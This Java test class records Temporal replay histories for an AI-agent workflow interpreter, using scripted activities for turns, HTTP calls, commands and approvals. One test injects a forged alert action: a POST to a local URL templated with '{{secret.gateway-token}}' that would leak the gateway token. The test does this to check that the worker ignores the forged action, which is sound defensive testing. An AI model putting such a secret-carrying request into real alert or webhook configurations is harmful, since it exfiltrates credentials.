package ai.clawfactory.worker.interpreter;

import static org.awaitility.Awaitility.await;

import ai.clawfactory.core.Names;
import ai.clawfactory.core.WorkflowIds;
import ai.clawfactory.core.approval.Channels;
import ai.clawfactory.core.approval.Decision;
import ai.clawfactory.core.approval.DecisionResult;
import ai.clawfactory.core.definition.AlertAction;
import ai.clawfactory.core.definition.AlertsDefinition;
import ai.clawfactory.core.definition.HttpCallDefinition;
import ai.clawfactory.core.definition.StepKind;
import ai.clawfactory.testing.TemporalDevServer;
import ai.clawfactory.worker.alert.AlertWorkflow;
import ai.clawfactory.worker.alert.AlertWorkflowImpl;
import ai.clawfactory.worker.alert.PinnedOwnAlertsVersion;
import ai.clawfactory.worker.alert.ReportCheckActivitiesImpl;
import ai.clawfactory.worker.alert.RunLookup;
import ai.clawfactory.worker.alert.RunOutcome;
import ai.clawfactory.worker.alert.RunReportActivitiesImpl;
import ai.clawfactory.worker.config.DefinitionsConfig;
import ai.clawfactory.worker.definition.DefinitionRegistry;
import ai.clawfactory.worker.step.StepResult;
import ai.clawfactory.worker.step.StepStatus;
import ai.clawfactory.worker.step.agentturn.AgentTurnActivities;
import ai.clawfactory.worker.step.agentturn.TurnInput;
import ai.clawfactory.worker.step.approval.ApprovalActivities;
import ai.clawfactory.worker.step.approval.ApprovalInput;
import ai.clawfactory.worker.step.approval.ApprovalOpened;
import ai.clawfactory.worker.step.approval.ApprovalRecord;
import ai.clawfactory.worker.step.command.CommandActivities;
import ai.clawfactory.worker.step.command.CommandInput;
import ai.clawfactory.worker.step.httpcall.HttpCallActivities;
import ai.clawfactory.worker.step.httpcall.HttpCallInput;
import ai.clawfactory.worker.step.wake.WakeActivities;
import ai.clawfactory.worker.step.wake.WakeInput;
import io.temporal.client.WorkflowClient;
import io.temporal.client.WorkflowClientOptions;
import io.temporal.client.WorkflowOptions;
import io.temporal.client.WorkflowStub;
import io.temporal.failure.ApplicationFailure;
import io.temporal.serviceclient.WorkflowServiceStubs;
import io.temporal.serviceclient.WorkflowServiceStubsOptions;
import io.temporal.worker.Worker;
import io.temporal.worker.WorkerFactory;
import io.temporal.worker.WorkerFactoryOptions;
import io.temporal.workflow.Workflow;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Predicate;
import org.junit.jupiter.api.Test;

/**
 * Records the committed replay histories (src/test/resources/histories/*.json): each shape the
 * interpreter can take, run on the real {@code temporal server start-dev} with scripted activities,
 * its history saved as the JSON the Web UI and {@code temporal workflow show -o json} export.
 * Not part of the suite (the name matches no test pattern); run it by hand after a deliberate
 * change of shape, and commit the new files next to the old ones (old histories stay: open runs
 * of old code must keep replaying):
 *
 * <pre>mvn -pl worker -am test -Dtest=HistoryRecorder -Dsurefire.failIfNoSpecifiedTests=false \
 *     -Dhistories.out=$PWD/worker/src/test/resources/histories</pre>
 *
 * In a worktree without {@code .tools}, add {@code -Dtemporal.cli=/path/to/temporal} (the build
 * sets that property, so it wins over {@code TEMPORAL_CLI}). To add one new shape without
 * rewriting the others, record into a scratch folder and copy the new files over.
 */
class HistoryRecorder {

    private static final String QUEUE = "history-recorder";

    /** Scripted turns: what each step answers, by workflow id. */
    static final class Turns implements AgentTurnActivities {
        @Override
        public StepResult agentTurn(TurnInput in) {
            String id = in.context().workflowId();
            if (id.startsWith("backoff") && in.stepId().equals("execute") && in.attempt() == 1) {
                throw ApplicationFailure.newFailure(
                        "gateway answered 429",
                        "GatewayTransientError",
                        Duration.ofSeconds(2).toMillis());
            }
            if (id.startsWith("backoff") && in.stepId().equals("execute") && in.attempt() == 2) {
                throw ApplicationFailure.newFailure("gateway answered 503", "GatewayTransientError");
            }
            if (id.startsWith("agent-error") && in.generation() == 0) {
                throw ApplicationFailure.newFailure("agent run settled as error", Names.FAILURE_AGENT_RUN);
            }
            if (id.startsWith("when-skip") && in.stepId().equals("first")) {
                throw ApplicationFailure.newFailure("gateway answered 500", "GatewayTransientError");
            }
            if (in.stepId().startsWith("alerts.")) {
                return new StepResult(
                        in.stepId(), StepKind.AGENT_TURN, StepStatus.OK, "alert-run", "sent", null, 200, null, 1);
            }
            if ((id.startsWith("rerun-old") && in.stepId().equals("synthesize"))
                    || (id.startsWith("graph-failed") && in.stepId().equals("broken"))) {
                throw ApplicationFailure.newNonRetryableFailure(
                        "gateway answered 400: unknown agentId", Names.FAILURE_GATEWAY_PERMANENT);
            }
            if (id.startsWith("failed") || id.startsWith("alerted-failed")) {
                throw ApplicationFailure.newNonRetryableFailure(
                        "gateway answered 400: unknown agentId", Names.FAILURE_GATEWAY_PERMANENT);
            }
            return new StepResult(
                    in.stepId(),
                    StepKind.AGENT_TURN,
                    StepStatus.OK,
                    "run-" + in.stepId(),
                    "output of " + in.stepId(),
                    null,
                    200,
                    null,
                    1);
        }
    }

    static final class Http implements HttpCallActivities {
        @Override
        public StepResult httpCall(HttpCallInput in) {
            return new StepResult(in.stepId(), StepKind.HTTP, StepStatus.OK, null, "{\"ok\":true}", null, 200, null, 1);
        }
    }

    /** Scripted wakes: the first attempt meets a gateway at capacity, the second is accepted. */
    static final class Wakes implements WakeActivities {
        @Override
        public StepResult wake(WakeInput in) {
            if (in.attempt() == 1) {
                throw ApplicationFailure.newFailure("gateway answered 503", "GatewayTransientError");
            }
            return new StepResult(
                    in.stepId(),
                    StepKind.WAKE,
                    StepStatus.OK,
                    null,
                    "woke the main session (now, queued)",
                    null,
                    200,
                    null,
                    1);
        }
    }

    /** Scripted commands: the first attempt of the first step exits non-zero, the second prints; the agent host's prints. */
    static final class Commands implements CommandActivities {
        @Override
        public StepResult command(CommandInput in) {
            if (in.stepId().equals("gather") && in.attempt() == 1) {
                throw ApplicationFailure.newFailure(
                        "command 0 (/bin/echo) exited with 1, accepted [0]; stderr: busy", "GatewayTransientError");
            }
            return new StepResult(
                    in.stepId(),
                    StepKind.COMMAND,
                    StepStatus.OK,
                    null,
                    "output of " + in.stepId(),
                    null,
                    null,
                    null,
                    1);
        }
    }

    /** Scripted approvals: the prompt as written, the link and command as the worker makes them; nothing recorded. */
    static final class Approvals implements ApprovalActivities {
        @Override
        public ApprovalOpened open(ApprovalInput in) {
            return new ApprovalOpened(
                    in.prompt(),
                    "http://localhost:8233/namespaces/default/workflows/"
                            + in.context().workflowId() + "/" + in.context().runId() + "/history",
                    "./clawfactory approve " + in.context().runId() + " --workflow-id "
                            + in.context().workflowId() + " --step " + in.stepId());
        }

        @Override
        public void record(ApprovalRecord record) {}
    }

    @Test
    void record() throws Exception {
        Path out = Path.of(System.getProperty("histories.out", "target/histories"));
        Files.createDirectories(out);
        Path definitions = Path.of("src/test/resources/histories/definitions").toAbsolutePath();
        try (TemporalDevServer server = TemporalDevServer.start()) {
            WorkflowServiceStubs stubs = WorkflowServiceStubs.newServiceStubs(WorkflowServiceStubsOptions.newBuilder()
                    .setTarget(server.target())
                    .build());
            WorkflowClient client = WorkflowClient.newInstance(
                    stubs,
                    WorkflowClientOptions.newBuilder().setNamespace("default").build());
            WorkerFactory factory = WorkerFactory.newInstance(client);
            Worker worker = factory.newWorker(QUEUE);
            worker.registerWorkflowImplementationTypes(InterpreterWorkflow.class, AlertWorkflowImpl.class);
            DefinitionRegistry registry = new DefinitionRegistry(new DefinitionsConfig(definitions.toString(), null));
            DefinitionActivitiesImpl loader = new DefinitionActivitiesImpl(registry, () -> true);
            worker.registerActivitiesImplementations(
                    new Turns(),
                    new Http(),
                    new Wakes(),
                    new Commands(),
                    new Approvals(),
                    new RunReportActivitiesImpl(() -> client, "http://localhost:8233"),
                    loader,
                    RerunActivitiesImpl.of(() -> client, loader),
                    reportChecks(registry, client));
            // The agent host of replay-command.yaml's step 'remote' (host: replay-host).
            factory.newWorker(Names.AGENT_TASK_QUEUE_PREFIX + "replay-host")
                    .registerActivitiesImplementations(new Commands());
            factory.start();
            try {
                Recorder r = new Recorder(client, out);
                // The approval kind: a notify turn, a decision through the decide Update (after a
                // refused one, which leaves no trace), the next step; a second approval that times
                // out as approved; and a rejected run.
                r.approval("approval-approved-then-timeout", "ReplayApproval", true);
                r.approval("approval-rejected", "ReplayApproval", false);
                if (System.getProperty("histories.only", "").equals("approval")) {
                    return; // -Dhistories.only=approval records just the two above
                }
                // Change "graph": branches side by side and joined, a fan-out of three two at a
                // time, a failed branch that skips its dependents while the other runs on.
                r.complete("graph-branches-joined", "ReplayGraph", Map.of(), false);
                r.complete("graph-fan-out", "ReplayFanOut", Map.of(), false);
                r.failed("graph-failed-branch", "ReplayFailedBranch", Map.of());
                if (System.getProperty("histories.only", "").equals("graph")) {
                    return; // -Dhistories.only=graph records just the three above
                }
                r.complete("turn-wait-turn", "ReplayTurns", Map.of(), true);
                r.parked("parked-in-wait", "ReplayTurns", Map.of("topic", "villanelles"));
                r.complete("backoff", "ReplayTurns", Map.of(), true);
                r.complete("agent-error-new-generation", "ReplayTurns", Map.of(), true);
                r.complete("when-skip", "ReplayConditions", Map.of(), false);
                r.complete("http-step", "ReplayHttp", Map.of("item", "b"), false);
                // The wake kind: retried once after a transient failure, then a wait.
                r.complete("wake-step", "ReplayWake", Map.of("note", "b"), false);
                // The command kind: retried once after a failed exit, then an exec block on an agent host.
                r.complete("command-step", "ReplayCommand", Map.of("target", "b"), false);
                r.cancelledInWait("cancelled-in-wait", "ReplayTurns");
                r.failed("failed", "ReplayTurns", Map.of());
                r.failed("nested-input-refused", "ReplayTurns", Map.of("topic", Map.of("a", List.of(1, 2))));
                r.failed("unknown-type", "NoSuchWorkflow", Map.of());
                // Change "alerts": runs report their end; the alert workflow alerts once and sends one recovery notice.
                r.failed("alerted-failed", "ReplayAlerted", Map.of());
                r.complete("alerted-ok", "ReplayAlerted", Map.of(), false);
                r.alertWorkflow("ReplayAlerted", "alert-workflow-alert-then-recovery");
                // Change "own-alerts": reports are checked against the worker's definitions, and a
                // workflow started before the change checks every report it hears after the deploy.
                // Change "rerun" (issue 31): a run that failed at synthesize, re-run from it.
                r.rerun("rerun-old", "rerun-from-synthesize", "ReplayTurns", "synthesize");
                r.alertWorkflowAcrossTheDeploy(
                        registry,
                        "ReplayAlerted",
                        "alerted-failed",
                        "alerted-ok",
                        "before-own-alerts-then-a-report-after-the-deploy");
            } finally {
                factory.shutdownNow();
                stubs.shutdownNow();
            }
        }
    }

    static ReportCheckActivitiesImpl reportChecks(DefinitionRegistry registry, WorkflowClient client) {
        return new ReportCheckActivitiesImpl(
                registry, () -> null, RunLookup.of(() -> client), "http://localhost:8233", "default");
    }

    private record Recorder(WorkflowClient client, Path out) {

        WorkflowStub start(String id, String type, Map<String, Object> input) {
            WorkflowStub stub = client.newUntypedWorkflowStub(
                    type,
                    WorkflowOptions.newBuilder()
                            .setTaskQueue(QUEUE)
                            .setWorkflowId(id)
                            .build());
            if (input.isEmpty()) {
                stub.start();
            } else {
                stub.start(input);
            }
            return stub;
        }

        void save(String id) throws Exception {
            Files.writeString(out.resolve(id + ".json"), client.fetchHistory(id).toJson(true) + "\n");
        }

        void awaitStatus(WorkflowStub stub, Predicate<WorkflowStatus> condition) {
            await().atMost(Duration.ofSeconds(60))
                    .pollInterval(Duration.ofMillis(200))
                    .until(() -> condition.test(stub.query(Names.QUERY_STATUS, WorkflowStatus.class)));
        }

        /** Runs to the end; {@code skipTheWait} signals skipWait once the run parks in its wait. */
        void complete(String id, String type, Map<String, Object> input, boolean skipTheWait) throws Exception {
            WorkflowStub stub = start(id, type, input);
            if (skipTheWait) {
                awaitStatus(stub, s -> "wait".equals(s.kind()) && "settle".equals(s.currentStep()));
                stub.signal(Names.SIGNAL_SKIP_WAIT);
            }
            stub.getResult(
                    Duration.ofSeconds(60).toMillis(), java.util.concurrent.TimeUnit.MILLISECONDS, RunResult.class);
            save(id);
        }

        /** Stops recording while the run is parked in its wait (as a deploy would find it), then ends it. */
        void parked(String id, String type, Map<String, Object> input) throws Exception {
            WorkflowStub stub = start(id, type, input);
            awaitStatus(stub, s -> "wait".equals(s.kind()) && "settle".equals(s.currentStep()));
            save(id);
            stub.terminate("recorded");
        }

        /**
         * A run that fails at step {@code from} after its wait, then its re-run from that step (the
         * memo {@code ./clawfactory rerun} writes); saves the re-run.
         */
        void rerun(String oldId, String id, String type, String from) throws Exception {
            WorkflowStub old = start(oldId, type, Map.of());
            awaitStatus(old, s -> "wait".equals(s.kind()) && "settle".equals(s.currentStep()));
            old.signal(Names.SIGNAL_SKIP_WAIT);
            try {
                old.getResult(
                        Duration.ofSeconds(60).toMillis(), java.util.concurrent.TimeUnit.MILLISECONDS, RunResult.class);
                throw new IllegalStateException(oldId + " did not fail");
            } catch (io.temporal.client.WorkflowFailedException expected) {
                // failed at from
            }
            WorkflowStub stub = client.newUntypedWorkflowStub(
                    type,
                    WorkflowOptions.newBuilder()
                            .setTaskQueue(QUEUE)
                            .setWorkflowId(id)
                            .setMemo(Map.of(
                                    Names.MEMO_RERUN_OF, oldId,
                                    Names.MEMO_RERUN_OF_RUN, old.getExecution().getRunId(),
                                    Names.MEMO_RERUN_FROM, from))
                            .build());
            stub.start();
            stub.getResult(
                    Duration.ofSeconds(60).toMillis(), java.util.concurrent.TimeUnit.MILLISECONDS, RunResult.class);
            save(id);
        }

        /** A run of replay-approval.yaml: once its approval is pending, a refused decision, then {@code approve} or a rejection. */
        void approval(String id, String type, boolean approve) throws Exception {
            WorkflowStub stub = start(id, type, Map.of());
            awaitStatus(stub, s -> s.approvals().size() == 1);
            try {
                stub.update(
                        Names.UPDATE_DECIDE,
                        DecisionResult.class,
                        new Decision("publish", true, null, Channels.MCP, "an agent"));
                throw new IllegalStateException(id + ": mcp was not refused");
            } catch (io.temporal.client.WorkflowUpdateException expected) {
                // by: leaves mcp out; the refusal leaves no event in the history
            }
            stub.update(
                    Names.UPDATE_DECIDE,
                    DecisionResult.class,
                    new Decision("publish", approve, approve ? "looks good" : "not yet", Channels.CLI, "ada"));
            try {
                stub.getResult(
                        Duration.ofSeconds(60).toMillis(), java.util.concurrent.TimeUnit.MILLISECONDS, RunResult.class);
            } catch (io.temporal.client.WorkflowFailedException e) {
                if (approve) {
                    throw e;
                }
            }
            save(id);
        }

        void cancelledInWait(String id, String type) throws Exception {
            WorkflowStub stub = start(id, type, Map.of());
            awaitStatus(stub, s -> "wait".equals(s.kind()) && "settle".equals(s.currentStep()));
            stub.cancel();
            try {
                stub.getResult(RunResult.class);
            } catch (RuntimeException expected) {
                // the cancellation
            }
            save(id);
        }

        /** Saves the alert workflow of a type into alerts/ once it has sent its recovery notice, then ends it. */
        void alertWorkflow(String type, String name) throws Exception {
            AlertWorkflow stub = client.newWorkflowStub(AlertWorkflow.class, WorkflowIds.alertsWorkflowId(type));
            await().atMost(Duration.ofSeconds(60))
                    .pollInterval(Duration.ofMillis(200))
                    .until(() -> stub.alertState() != null && stub.alertState().recoveriesSent() == 1);
            Path dir = Files.createDirectories(out.resolve("alerts"));
            Files.writeString(
                    dir.resolve(name + ".json"),
                    client.fetchHistory(WorkflowIds.alertsWorkflowId(type)).toJson(true) + "\n");
            client.newUntypedWorkflowStub(WorkflowIds.alertsWorkflowId(type)).terminate("recorded");
        }

        /**
         * An alert workflow of the code before change own-alerts (emulated: its getVersion pinned to
         * the default, so it issues that code's commands) alerts on a report carrying its block, as
         * the interpreter's reports did then; after a deploy (a new worker on its task queue) it hears
         * a report carrying a forged action, and sends the definition's recovery notice instead.
         */
        void alertWorkflowAcrossTheDeploy(
                DefinitionRegistry registry, String type, String failedId, String okId, String name) throws Exception {
            String queue = QUEUE + "-before-own-alerts";
            WorkerFactory before = WorkerFactory.newInstance(
                    client,
                    WorkerFactoryOptions.newBuilder()
                            .setWorkerInterceptors(new PinnedOwnAlertsVersion(Workflow.DEFAULT_VERSION))
                            .build());
            serve(before, queue, registry);
            AlertWorkflow stub = client.newWorkflowStub(AlertWorkflow.class, WorkflowIds.alertsWorkflowId(type));
            AlertsDefinition pinned = registry.find(type).alerts();
            RunReportActivitiesImpl.signalWithStart(client, queue, report(failedId, type, false, pinned));
            await().atMost(Duration.ofSeconds(60))
                    .pollInterval(Duration.ofMillis(200))
                    .until(() -> stub.alertState() != null && stub.alertState().alertsSent() == 1);
            before.shutdown();
            before.awaitTermination(30, java.util.concurrent.TimeUnit.SECONDS);

            WorkerFactory after = WorkerFactory.newInstance(client);
            serve(after, queue, registry);
            try {
                AlertAction forged = new AlertAction(
                        null,
                        new HttpCallDefinition(
                                "POST", "http://127.0.0.1:9/leak-{{secret.gateway-token}}", Map.of(), "{}", List.of()));
                RunReportActivitiesImpl.signalWithStart(
                        client,
                        queue,
                        report(okId, type, true, new AlertsDefinition(1, Duration.ZERO, forged, forged, "forged")));
                await().atMost(Duration.ofSeconds(60))
                        .pollInterval(Duration.ofMillis(200))
                        .until(() -> stub.alertState().recoveriesSent() == 1);
                Path dir = Files.createDirectories(out.resolve("alerts"));
                Files.writeString(
                        dir.resolve(name + ".json"),
                        client.fetchHistory(WorkflowIds.alertsWorkflowId(type)).toJson(true) + "\n");
                client.newUntypedWorkflowStub(WorkflowIds.alertsWorkflowId(type))
                        .terminate("recorded");
            } finally {
                after.shutdownNow();
            }
        }

        private void serve(WorkerFactory factory, String queue, DefinitionRegistry registry) {
            Worker w = factory.newWorker(queue);
            w.registerWorkflowImplementationTypes(AlertWorkflowImpl.class);
            w.registerActivitiesImplementations(new Turns(), new Http(), reportChecks(registry, client));
            factory.start();
        }

        /** A report of a recorded run, with an alerts block as reports before change own-alerts had. */
        private RunOutcome report(String workflowId, String type, boolean ok, AlertsDefinition alerts) {
            return new RunOutcome(
                    type,
                    workflowId,
                    client.newUntypedWorkflowStub(workflowId)
                            .describe()
                            .getExecution()
                            .getRunId(),
                    "2026-12-01T09:00:00Z",
                    ok,
                    ok ? null : "execute",
                    ok ? null : "Step 'execute' of " + type + " failed after 1 attempt(s): gateway answered 400",
                    ok ? 0 : 1,
                    Map.of(),
                    alerts,
                    "http://localhost:8233/namespaces/default/workflows/" + workflowId,
                    null);
        }

        void failed(String id, String type, Map<String, Object> input) throws Exception {
            WorkflowStub stub = start(id, type, input);
            try {
                stub.getResult(
                        Duration.ofSeconds(60).toMillis(), java.util.concurrent.TimeUnit.MILLISECONDS, RunResult.class);
                throw new IllegalStateException(id + " did not fail");
            } catch (io.temporal.client.WorkflowFailedException expected) {
                save(id);
            }
        }
    }
}
